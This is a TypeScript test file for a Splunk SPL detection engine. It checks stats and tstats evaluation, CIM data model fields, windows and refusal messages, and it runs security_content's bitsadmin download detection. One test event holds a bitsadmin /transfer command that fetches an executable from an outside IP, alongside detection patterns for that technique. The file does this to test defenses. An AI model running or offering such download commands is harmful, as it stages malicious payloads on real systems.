// SPL pipelines as the engine evaluates them: stats and tstats with measures and thresholds, data model
// fields from normalized events, windows, renames after aggregation, not-evaluable rules, and security_content's
// bitsadmin detection on the bitsadmin events.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Diagnostic } from '../model/diagnostic.js';
import type { NormalizedEvent } from '../model/event.js';
import { corpusPath } from '../../test/corpus.js';
import { splFires, splRefusal, sysmonProcess, windowsEvent } from '../../test/spl-engine.js';
import { contextFrom } from '../analysis/source-context.js';
import { parseRule } from '../analysis/parse-rule.js';
import { readFile } from '../analysis/read-file.js';
import { recognize } from '../formats/registry.js';
import { readEventText } from '../events/read.js';
import { normalizeEvent } from '../events/normalize.js';
import type { ParsedRule } from '../model/rule.js';
import type { SourceArtifact } from '../model/artifact.js';
import { Hunt } from './hunt.js';

const alice = (seconds: number, data: Record<string, string> = {}): NormalizedEvent =>
  sysmonProcess(data, seconds);

describe('stats with measures and a threshold after', () => {
  it('counts by keys and fires when the row passes', () => {
    const three = [alice(0), alice(1), alice(2)];
    expect(splFires('search * | stats count by User | where count > 2', three)).toEqual([0, 1, 2]);
    expect(splFires('search * | stats count by User | where count > 2', three.slice(0, 2))).toEqual([]);
    expect(splFires('search * | stats count by User | search count>=2', three.slice(0, 2))).toEqual([0, 1]);
  });

  it('makes no row of events without a group key', () => {
    expect(splFires('search * | stats count by Missing', [alice(0)])).toEqual([]);
    expect(splFires('search * | stats count by User', [alice(0)])).toEqual([0]);
  });

  it('computes dc(), values() and min() under their names', () => {
    const images = [alice(0), alice(1, { Image: 'C:\\x\\other.exe' }), alice(2)];
    expect(splFires('search * | stats dc(Image) as images by User | where images > 1', images)).toEqual([
      0, 1, 2,
    ]);
    expect(splFires('search * | stats dc(Image) as images by User | where images > 2', images)).toEqual([]);
    expect(
      splFires(
        'search * | stats values(Image) as all min(ProcessId) as low by User | where mvcount(all)=2 AND low=6700',
        images,
      ),
    ).toEqual([0, 1, 2]);
  });

  it('counts within the window of a span on _time', () => {
    const query = 'search * | bin _time span=1m | stats count by _time User | where count > 1';
    expect(splFires(query, [alice(0), alice(10)])).toEqual([0, 1]);
    expect(splFires(query, [alice(0), alice(59 * 5)])).toEqual([]);
  });
});

describe('tstats over the CIM data model', () => {
  const security4688 = windowsEvent('Microsoft-Windows-Security-Auditing', 'Security', 4688, {
    NewProcessName: 'C:\\Windows\\System32\\bitsadmin.exe',
    CommandLine: 'bitsadmin /transfer job1 http://203.0.113.7/p.exe',
    SubjectUserName: 'alice',
  });
  const logon = windowsEvent('Microsoft-Windows-Security-Auditing', 'Security', 4624, {
    TargetUserName: 'bob',
  });
  const query =
    '| tstats `security_content_summariesonly` count from datamodel=Endpoint.Processes where `process_bitsadmin` Processes.process IN ("*transfer*") by Processes.dest Processes.process_name | `drop_dm_object_name(Processes)`';

  it('reads Processes.* from Sysmon and Security process events, and no other event', () => {
    expect(splFires(query, [alice(0), security4688, logon])).toEqual([0, 1]);
    expect(splFires(query, [alice(0, { CommandLine: 'bitsadmin /list' })])).toEqual([]);
  });

  it('filters the renamed rows after drop_dm_object_name', () => {
    expect(splFires(`${query} | search process_name=bitsadmin.exe dest=ws01*`, [alice(0)])).toEqual([0]);
    expect(splFires(`${query} | where count > 1`, [alice(0)])).toEqual([]);
    expect(splFires(`${query} | where count > 1`, [alice(0), alice(1)])).toEqual([0, 1]);
  });
});

describe('rules the engine does not evaluate', () => {
  it('says why instead of guessing', () => {
    expect(splRefusal('| inputlookup admins.csv')).toBe(
      'reads a lookup table (inputlookup), which events do not carry',
    );
    expect(splRefusal('search * | lookup ports port OUTPUT bad | search bad=true')).toBe(
      'the engine cannot evaluate the filter: it reads bad, which the lookup ports sets',
    );
    expect(splRefusal('search * NOT [| inputlookup allow.csv | fields User]')).toBe(
      'it uses the results of a subsearch',
    );
    expect(splRefusal('search * | `unknown_macro`')).toBe(
      'it calls the macro unknown_macro, which its source does not define',
    );
    expect(splRefusal('search * | lookup ports port OUTPUT bad | table User bad')).toBeUndefined();
  });
});

/** security_content's macros and one of its detections, parsed as the catalog would. */
function detection(root: string, path: string): ParsedRule {
  const artifacts: SourceArtifact[] = [];
  for (const name of [
    'process_bitsadmin',
    'security_content_summariesonly',
    'security_content_ctime',
    'summariesonly_config',
    'oldsummaries_config',
    'fillnull_config',
  ]) {
    const file = join(root, 'macros', `${name}.yml`);
    const text = readFileSync(file, 'utf8');
    const source = { path: `macros/${name}.yml`, text, bytes: text.length, sourceName: 'splunk' };
    artifacts.push(...readFile(source, recognize(source)).artifacts);
  }
  const text = readFileSync(join(root, path), 'utf8');
  const source = { path, text, bytes: text.length, sourceName: 'splunk' };
  const result = readFile(source, recognize(source));
  return parseRule(result.rules[0], contextFrom(artifacts), result.prepared?.[0]);
}

function fixture(name: string): NormalizedEvent {
  const diagnostics: Diagnostic[] = [];
  const text = readFileSync(join(import.meta.dirname, '../../test/fixtures/events', name), 'utf8');
  return normalizeEvent(readEventText(text, name, diagnostics)[0]);
}

describe.skipIf(!corpusPath('splunk'))("security_content's bitsadmin_download_file.yml", () => {
  it('fires on the bitsadmin Sysmon and Security events, not on another process', () => {
    const rule = detection(corpusPath('splunk')!, 'detections/endpoint/bitsadmin_download_file.yml');
    expect(rule.query?.unresolved).toEqual([]);
    const hunt = new Hunt([rule]);
    expect(hunt.notEvaluable).toEqual([]);
    const events = [
      fixture('bitsadmin-sysmon1.json'),
      fixture('bitsadmin-4688.json'),
      sysmonProcess({ CommandLine: 'bitsadmin /list' }),
    ];
    events.forEach((e) => hunt.push(e));
    const [hit] = hunt.finish().hits;
    expect(hit?.events.map((o) => events.findIndex((e) => e.record.origin === o))).toEqual([0, 1]);
  });
});
